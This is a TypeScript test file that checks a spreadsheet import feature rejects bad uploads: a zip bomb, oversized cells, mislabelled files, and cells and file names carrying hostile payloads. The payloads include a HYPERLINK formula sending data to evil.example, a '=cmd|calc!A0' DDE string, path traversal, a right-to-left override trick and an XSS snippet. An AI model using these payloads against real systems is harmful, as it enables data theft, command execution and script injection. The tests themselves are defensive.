import { deflateRawSync } from 'node:zlib';
import * as other from '@e965/xlsx';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { openImports, rowsOf, upload, workbook } from '../../../../tests/support/imports.ts';
import type { Trade } from '../../../../tests/support/trade.ts';
import { sql } from '../../../db/statement.ts';

// Making and unpacking a bomb is the machine's own time.
vi.setConfig({ testTimeout: 60_000 });

let trade: Trade;
beforeAll(async () => {
  trade = await openImports('bad_files');
});
afterAll(() => trade.close());

const head = ['编码', '名称', '规格'];
const left = async () => {
  const row = await trade.at.db.tenant(1).first<{ imports: number; files: number; materials: number }>(sql`
    select (select count(*)::int from record_import) as imports, (select count(*)::int from file) as files,
           (select count(*)::int from md_material) as materials`);
  return row;
};

/** An archive of one part, which says of itself what it likes. */
function zipped(name: string, content: Buffer): Buffer {
  const packed = deflateRawSync(content, { level: 1 });
  const entry = (signature: number, size: number, at: number) => {
    const bytes = Buffer.alloc(size);
    bytes.writeUInt32LE(signature, 0);
    bytes.writeUInt16LE(8, at);
    bytes.writeUInt32LE(packed.length, at + 10);
    bytes.writeUInt16LE(name.length, at + 18);
    return bytes;
  };
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(30 + name.length + packed.length, 16);
  const parts = [
    entry(0x04034b50, 30, 8),
    Buffer.from(name),
    packed,
    entry(0x02014b50, 46, 10),
    Buffer.from(name),
    end,
  ];
  return Buffer.concat(parts);
}

const long = (length: number) => '长'.repeat(length);

describe('a bad file is refused in words and leaves nothing', () => {
  test.each<[string, string, () => Buffer, string]>([
    ['a bomb', 'a.xlsx', () => zipped('xl/workbook.xml', Buffer.alloc(120 * 1024 * 1024, '<a/>')), '解压后过大'],
    ['a cell of ten megabytes', 'a.csv', () => Buffer.from(`编码,名称\nA1,${long(3_500_000)}\n`), '超过32767个字'],
    ['a program that calls itself a workbook', 'a.xlsx', () => Buffer.from('MZ\x90\x00'), '文件内容不是xlsx格式'],
    ['a page that calls itself a workbook', 'a.xls', () => Buffer.from('<html><table>'), '文件内容不是xls格式'],
    ['text in no encoding', 'a.csv', () => Buffer.from([0xb1, 0x2c, 0xff, 0xff, 0x00, 0x0a]), '编码无法识别'],
    ['half of one', 'a.xlsx', () => workbook([head, ['A1', '甲']]).subarray(0, 700), '已损坏'],
    ['nothing', 'a.xlsx', () => Buffer.alloc(0), '文件是空的'],
    ['a picture', '现场.png', () => Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), '只能导入 xls、xlsx、csv 文件'],
  ])('%s', async (_, name, make, said) => {
    const before = await left();
    const answer = await upload(trade, 'buyer', 'material', make(), 'create', name);
    expect(answer).toMatchObject({ success: false, message: expect.stringContaining(said) });
    expect(await left()).toEqual(before);
  });
});

describe('a file that is well formed and means ill', () => {
  test('has its formulas read as what they came to, never run, never kept', async () => {
    const sheet = other.utils.aoa_to_sheet([head, ['A1', '甲', '规格']]);
    sheet.B2 = { t: 's', v: '甲', f: 'HYPERLINK("http://evil.example/?"&A2,"甲")' };
    sheet.C2 = { t: 's', v: '=cmd|calc!A0' };
    const file = other.write(other.utils.book_new(sheet), { bookType: 'xlsx', type: 'buffer' });
    const { result } = await upload(trade, 'buyer', 'material', file);
    const [row] = await rowsOf(trade, 'buyer', 'material', result.id);
    const text = JSON.stringify(row);
    expect(text).toContain('甲');
    expect(text).toContain('=cmd|calc!A0');
    expect(text).not.toContain('HYPERLINK');
  });

  test.each([
    '../../../etc/cron.d/x.xlsx',
    'a\u202exslx.exe.xlsx',
    '<img src=x onerror=alert(1)>.xlsx',
    `${'长'.repeat(300)}.xlsx`,
  ])('called %s, it is shown under a harmless name', async (name) => {
    const { result } = await upload(trade, 'buyer', 'material', workbook([head, ['A1', '甲', null]]), 'create', name);
    expect(result.file).toMatch(/\.xlsx$/);
    expect(result.file).not.toMatch(/[\\/<>\u202e]|\.\./);
    expect([...result.file].length).toBeLessThanOrEqual(160);
  });
});
